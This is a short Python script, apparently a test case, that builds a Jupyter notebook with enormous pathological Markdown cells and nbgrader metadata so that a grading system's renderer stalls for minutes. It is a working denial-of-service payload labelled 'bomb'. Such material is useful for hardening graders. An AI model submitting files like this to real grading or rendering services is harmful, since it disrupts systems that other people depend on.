"""tries: hand in an essay that takes a Markdown renderer minutes

after: folder
bomb: yes
"""

import json

texts = ["[" * 190_000, "*a " * 60_000, "\\\\(" * 60_000, "<div>" * 40_000, "> " * 90_000]
essay = {"grade_id": "theory_1", "grade": True, "solution": True, "schema_version": 3}
cells = [{"cell_type": "markdown", "source": text, "metadata": {}} for text in texts[1:3]]
cells += [{"cell_type": "markdown", "source": texts[0], "metadata": {"nbgrader": essay}}]
with open("speech_commands.ipynb", "w") as file:
    json.dump({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}, file)
